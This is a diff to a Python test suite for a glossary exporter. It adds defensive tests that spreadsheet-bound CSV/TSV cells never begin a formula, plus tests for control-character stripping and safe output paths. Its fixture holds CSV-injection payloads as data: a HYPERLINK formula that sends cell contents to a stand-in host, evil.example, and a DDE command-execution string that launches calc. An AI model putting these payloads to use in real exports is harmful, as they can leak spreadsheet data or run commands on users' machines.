@@ -7,6 +7,7 @@ import csv
 import io
 import json
 import os
+import stat
 import subprocess
 import sys
 import textwrap
@@ -18,7 +19,7 @@ from typer.testing import CliRunner
 
 from glossary import export as ex
 from glossary.cli import app
-from glossary.export.csv import parse_aliases
+from glossary.export.csv import COLUMNS, parse_aliases, plain, unescape_tsv
 from glossary.export.tbx import NS
 from glossary.model import Alias, Concept, Source
 from glossary.store import load, save
@@ -143,7 +144,8 @@ def test_export_to_stdout_and_to_a_directory(tmp_path: Path, terms_file: Path) -
     assert [c["id"] for c in json.loads(result.stdout)["concepts"]] == ["bytedance", "cat-tax", "xiaohongshu", "tiktok-refugee"]
     result = runner.invoke(app, ["export", "-f", "markdown", "-o", str(tmp_path), "--glossary", str(terms_file)])
     assert result.exit_code == 0
-    assert (tmp_path / "glossary-markdown.md").read_text(encoding="utf-8").startswith("# Test glossary\n")
+    assert result.stderr == f"wrote 4 concepts as markdown to {tmp_path / 'glossary.md'} ({(tmp_path / 'glossary.md').stat().st_size:,} bytes)\n"
+    assert (tmp_path / "glossary.md").read_text(encoding="utf-8").startswith("# Test glossary\n")
 
 
 def test_filters_by_category_and_status(terms_file: Path) -> None:
@@ -198,11 +200,22 @@ def test_order_is_alphabetical_and_independent_of_file_order(tmp_path: Path, ter
 # --- exchange formats ---------------------------------------------------------------------
 
 
+def read_rows(fmt: str, content: bytes) -> list[dict[str, str]]:
+    """The rows of a CSV (the csv module) or TSV (one record per line, split on tabs), cells as written."""
+    text = content.decode("utf-8-sig")
+    if fmt == "csv":
+        return list(csv.DictReader(io.StringIO(text)))
+    lines = text.split("\n")
+    assert lines[-1] == ""
+    header, *records = [line.split("\t") for line in lines[:-1]]
+    return [dict(zip(header, r, strict=True)) for r in records]
+
+
 def test_csv_and_tsv_read_back(hostile_file: Path) -> None:
     g = load(hostile_file)
-    for fmt, dialect in (("csv", "excel"), ("tsv", "excel-tab")):
-        text = ex.export(g, fmt).decode("utf-8-sig")
-        rows = list(csv.DictReader(io.StringIO(text), dialect=dialect))
+    for fmt in ("csv", "tsv"):
+        unescape = plain if fmt == "csv" else (lambda cell: plain(unescape_tsv(cell)))
+        rows = [{k: unescape(v) for k, v in r.items()} for r in read_rows(fmt, ex.export(g, fmt))]
         by_id = {r["id"]: r for r in rows}
         assert len(rows) == len(g.concepts)
         for c in g.concepts:
@@ -362,3 +375,165 @@ def test_rst_glossary_builds_with_sphinx_without_warnings(tmp_path: Path, hostil
     assert "<script>alert(1)</script>" in pipe and "trailing :: colon" in pipe
     refs = [r.get("refuri") for r in ET.parse(tmp_path / "out" / "index.xml").getroot().iter("reference")]
     assert refs[:4] == ["glossary#term-RedNote", refs[1], "glossary#term-Little-Red-Book", refs[3]] and all(refs[:4])
+
+
+# --- spreadsheet-safe cells and inert text ---------------------------------------------------
+
+FORMULAS_YAML = r'''name: formulas
+concepts:
+  - id: formula
+    category: meme
+    zh: 公式
+    en: "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"
+    pinyin: "-1"
+    literal: "+cmd|' /C calc'!A0"
+    gloss: "@SUM(A1:A9)"
+    note: "\tTab first, then NUL \0 here,\r a bare CR\r\nand a CRLF, a backslash \\n and a tab\there"
+    aliases:
+      - {text: "Xiǎohóngshū - RedNote", kind: variant}
+      - {text: "'=already quoted", kind: variant}
+    sources:
+      - {path: corpus/x.txt, line: 3, sentence: "=HYPERLINK(\"http://evil.example\")"}
+  - id: plain
+    category: meme
+    zh: 平常
+    pinyin: Dì-yī
+    en: First - and @second + third
+    note: "Ends with = + - @"
+'''
+
+
+@pytest.fixture
+def formulas_file(tmp_path: Path) -> Path:
+    path = tmp_path / "formulas.yaml"
+    path.write_text(FORMULAS_YAML, encoding="utf-8")
+    return path
+
+
+def test_csv_and_tsv_cells_never_start_a_formula(formulas_file: Path) -> None:
+    g = load(formulas_file)
+    for fmt in ("csv", "tsv"):
+        content = ex.export(g, fmt)
+        rows = read_rows(fmt, content)
+        assert [r["id"] for r in rows] == ["plain", "formula"]
+        for r in rows:
+            assert set(r) == set(COLUMNS)
+            for cell in r.values():
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (fmt, cell)
+        formula, ordinary = rows[1], rows[0]
+        assert formula["en"] == "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"
+        assert formula["pinyin"] == "'-1" and formula["literal"].startswith("'+cmd") and formula["gloss"] == "'@SUM(A1:A9)"
+        assert formula["example"] == "'=HYPERLINK(\"http://evil.example\")"
+        # values that merely hold these characters later on are left as they are
+        assert (ordinary["pinyin"], ordinary["en"], ordinary["note"]) == ("Dì-yī", "First - and @second + third", "Ends with = + - @")
+        unescape = plain if fmt == "csv" else (lambda cell: plain(unescape_tsv(cell)))
+        assert parse_aliases(unescape(formula["aliases"])) == [Alias("Xiǎohóngshū - RedNote", "variant"), Alias("'=already quoted", "variant")]
+        assert unescape(formula["note"]) == "\tTab first, then NUL  here,\n a bare CR\nand a CRLF, a backslash \\n and a tab\there"
+
+
+def test_tsv_has_one_record_per_line(formulas_file: Path, hostile_file: Path) -> None:
+    for path in (formulas_file, hostile_file):
+        lines = ex.export(load(path), "tsv").decode("utf-8").split("\n")
+        assert lines[-1] == "" and len(lines) - 2 == len(load(path).concepts)
+        assert {len(line.split("\t")) for line in lines[:-1]} == {len(COLUMNS)}
+
+
+@pytest.mark.parametrize("fmt", ["csv", "tsv", "markdown", "markdown-dl", "rst", "mkdocs", "omegat", "omegat-zh-en", "anki"])
+def test_nul_and_bare_cr_never_reach_an_export(fmt: str, formulas_file: Path, tmp_path: Path) -> None:
+    content = ex.export(load(formulas_file), fmt)
+    if fmt == "anki":
+        import sqlite3
+        import zipfile
+
+        db = tmp_path / "deck.anki2"
+        with zipfile.ZipFile(io.BytesIO(content)) as z:
+            db.write_bytes(z.read("collection.anki2"))
+        content = "".join(flds for (flds,) in sqlite3.connect(db).execute("SELECT flds FROM notes")).encode("utf-8")
+        assert b"Tab first" in content
+    assert b"\x00" not in content
+    assert b"\r" not in content.replace(b"\r\n", b"")  # the CSV's own line ends are CRLF
+
+
+# --- where -o writes ---------------------------------------------------------------------------
+
+
+def export_to(target: str, terms: Path, fmt: str = "csv"):
+    return runner.invoke(app, ["export", "-f", fmt, "-o", target, "--glossary", str(terms)])
+
+
+def test_output_through_a_symlink_replaces_the_target_and_keeps_the_link(tmp_path: Path, terms_file: Path) -> None:
+    real = tmp_path / "releases" / "v1.csv"
+    real.parent.mkdir()
+    real.write_text("old", encoding="utf-8")
+    os.chmod(real, 0o640)
+    link = tmp_path / "current.csv"
+    link.symlink_to(real)
+    result = export_to(str(link), terms_file)
+    assert result.exit_code == 0, result.output
+    assert result.stderr.startswith(f"wrote 4 concepts as csv to {real} (")
+    assert link.is_symlink() and os.readlink(link) == str(real)
+    assert real.read_bytes() == ex.export(load(terms_file), "csv")
+    assert oct(real.stat().st_mode & 0o777) == oct(0o640)
+    assert sorted(p.name for p in real.parent.iterdir()) == ["v1.csv"]  # no temporary file left
+
+
+def test_output_to_a_fifo_or_device_is_refused(tmp_path: Path, terms_file: Path) -> None:
+    fifo = tmp_path / "pipe"
+    os.mkfifo(fifo)
+    result = export_to(str(fifo), terms_file)
+    assert result.exit_code == 2
+    assert result.stderr == f"error: {fifo} is a FIFO, not a file: not writing to it\n"
+    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
+    link = tmp_path / "to-pipe"
+    link.symlink_to(fifo)
+    assert export_to(str(link), terms_file).stderr == f"error: {fifo} is a FIFO, not a file: not writing to it\n"
+    if os.path.exists("/dev/full"):
+        result = export_to("/dev/full", terms_file)
+        assert result.exit_code == 2
+        assert result.stderr == "error: /dev/full is a character device, not a file: not writing to it\n"
+        assert stat.S_ISCHR(os.stat("/dev/full").st_mode)
+
+
+def test_output_to_a_folder_uses_the_default_file_name(tmp_path: Path, terms_file: Path) -> None:
+    out = tmp_path / "out"
+    result = export_to(f"{out}/", terms_file, "anki")  # a path ending in /: the folder is made
+    assert result.exit_code == 0, result.output
+    assert result.stderr.startswith(f"wrote 4 concepts as anki to {out / 'glossary.apkg'} (")
+    assert (out / "glossary.apkg").read_bytes()[:2] == b"PK"
+    result = export_to(str(out), terms_file, "tbx")  # an existing folder, no slash
+    assert result.exit_code == 0 and (out / "glossary.tbx").is_file()
+    result = export_to(f"{tmp_path / 'missing' / 'deeper'}/", terms_file)
+    assert result.exit_code == 1
+    assert result.stderr == f"error: {tmp_path / 'missing'}: no such directory\n"
+    (tmp_path / "file").write_text("x", encoding="utf-8")
+    result = export_to(f"{tmp_path / 'file'}/", terms_file)
+    assert result.exit_code == 2 and result.stderr == f"error: {tmp_path / 'file'}/: not a directory\n"
+
+
+def test_progress_shows_on_a_terminal_only(tmp_path: Path) -> None:
+    big = tmp_path / "big.yaml"
+    big.write_text("name: big\nconcepts:\n" + "".join(
+        f"  - {{id: term-{i}, category: meme, en: Term {i}}}\n" for i in range(2000)), encoding="utf-8")
+    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parent.parent)}
+    cmd = [sys.executable, "-m", "glossary", "export", "-f", "csv", "-o", str(tmp_path / "big.csv"), "--glossary", str(big)]
+    piped = subprocess.run(cmd, capture_output=True, env=env, cwd=tmp_path)
+    assert piped.returncode == 0 and piped.stderr.decode() == f"wrote 2000 concepts as csv to {tmp_path / 'big.csv'} ({(tmp_path / 'big.csv').stat().st_size:,} bytes)\n"
+    import pty
+
+    leader, follower = pty.openpty()
+    try:
+        proc = subprocess.run(cmd, stdout=subprocess.DEVNULL, stderr=follower, env=env, cwd=tmp_path)
+        os.close(follower)
+        seen = b""
+        while True:
+            try:
+                chunk = os.read(leader, 4096)
+            except OSError:
+                break
+            if not chunk:
+                break
+            seen += chunk
+    finally:
+        os.close(leader)
+    assert proc.returncode == 0
+    assert b"exporting 2,000 concepts as csv\xe2\x80\xa6" in seen and b"wrote 2000 concepts as csv" in seen
